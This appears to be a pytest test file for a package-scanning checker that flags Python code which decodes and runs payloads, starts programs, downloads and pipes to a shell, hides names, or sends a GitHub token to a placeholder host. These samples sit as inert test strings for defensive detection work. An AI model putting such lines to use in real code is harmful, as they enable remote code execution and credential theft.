"""What Python would do, by its tree: when it runs, with what, and that none of it is run."""

import pytest

from devsper_registry.verification.checks import code
from tests import build
from tests.unit.verification.opening import codes, found, opened

RUN = "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"


def seen(text: str, **more: str) -> list[str]:
    """The kinds of what is found in a package whose `__init__.py` this is."""
    files = {"demo/__init__.py": text.encode()}
    files |= {f"demo/{name}.py": content.encode() for name, content in more.items()}
    return codes(code, files)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (RUN, ["decoded-code"]),
        (f"def run():\n    {RUN}", ["decoded-code-when-called"]),
        (f"def run():\n    {RUN}run()\n", ["decoded-code"]),
        (f"if __name__ == '__main__':\n    {RUN}", ["decoded-code-when-called"]),
        (f"class C:\n    {RUN}", ["decoded-code"]),
        (f"try:\n    pass\nfinally:\n    {RUN}", ["decoded-code"]),
        (f"from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    {RUN}", []),
        ("from subprocess import Popen as P\nP(['git', 'describe'])\n", ["program-started"]),
        ("import subprocess\ndef f():\n    subprocess.run(['git'])\n", []),
        ("import requests\nrequests.get('http://example.invalid')\n", ["network-use"]),
        ("import requests\ndef f(u):\n    return requests.get(u)\n", []),
        ("import os\nos.system('curl http://example.invalid | sh')\n", ["downloading-command"]),
        ("exec('VALUE = 1')\n", []),
        ("exec(compile(open('version.py').read(), 'version.py', 'exec'))\n", []),
        ("import re\nre.compile('x').sub('', 'eval')\n", []),
        ("import base64\nICON = base64.b64decode('aWNvbg==')\n", []),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n", ["hidden-name"]),
        ("import os\nos.environ['A'] = 'b'\n", []),
        (
            "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))\n",
            ["program-started"],
        ),
        (
            "import os, requests\nrequests.get('https://api.github.com/x',"
            " headers={'Authorization': os.environ['GITHUB_TOKEN']})\n",
            ["network-use"],
        ),
        (
            "import os, requests\nrequests.get('http://example.invalid',"
            " headers={'Authorization': os.environ['GITHUB_TOKEN']})\n",
            ["secret-sent"],
        ),
    ],
)
def test_what_runs_unasked_weighs_more_than_what_is_called(text: str, expected: list[str]) -> None:
    assert seen(text) == expected


def test_a_function_of_another_module_is_followed() -> None:
    assert seen("from .run import go\ngo()\n", run=f"def go():\n    {RUN}") == ["decoded-code"]


def test_a_finding_names_file_line_and_text() -> None:
    (finding,) = found(code, {"demo/a.py": b"import os\n\nos.system('x')\n"})
    assert (finding.path, finding.line, finding.evidence) == ("demo/a.py", 3, "os.system('x')")
    assert finding.sentence == "'demo/a.py' starts another program when it is imported."


def test_a_setup_py_is_read_with_what_it_imports() -> None:
    files = {"setup.py": b"from tests.run import go\ngo()\n", "tests/run.py": b"", "a.py": b""}
    files["tests/run.py"] = f"def go():\n    {RUN}".encode()
    archive = opened(build.sdist(files=files))
    (finding,) = code.findings(archive)
    assert (finding.code, finding.path) == ("code.decoded-code", "demo-1.0/tests/run.py")
    assert finding.sentence.endswith("runs it as code when it is built or installed.")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"print 'old'\nexec 'x'\n", ["unparsed"]),
        (b"exec(" + b"-" * 100_000 + b"1)", ["unparsed"]),
        (b"x = exec\n" + b"a = " + b"+".join([b"'a'"] * 50_000), ["unparsed"]),
        (b"x = exec\n" + b"a = " + b"+".join([b"'a'"] * 200), []),
        (b"exec(\x00)", ["unparsed"]),
        (b"# coding: hex\nexec('1')", []),
        (b"# coding: no-such\nexec('1')", []),
        (b"\xff\xfee\x00x\x00e\x00c\x00(\x001\x00)\x00", []),
        (b"exec(" + b"9" * 10_000 + b")", ["unparsed"]),
        (b"exec('%1000000000s' % 'a' * 9 ** 9 ** 9)\n", []),
        (b"exec('{:999999999}'.format(1).zfill(10 ** 9) * 10 ** 9)\n", []),
        (b"exec\ndef f():\n    return f() + f()\nf()\n", []),
        (b"import base64\nclass A(A): pass\nexec(A().x.y.z)\n", []),
    ],
)
def test_hostile_sources_end_soon(content: bytes, expected: list[str]) -> None:
    assert codes(code, {"demo/__init__.py": content}) == expected


def test_what_takes_too_many_steps_is_told() -> None:
    text = b"exec\n" + b"f(a, b, c, d)\n" * 60_000
    assert codes(code, {"demo/__init__.py": text}) == ["limit-reached"]


def test_no_two_kinds_share_a_code() -> None:
    named = [kind.code for kind in code.KINDS]
    assert len(named) == len(set(named))
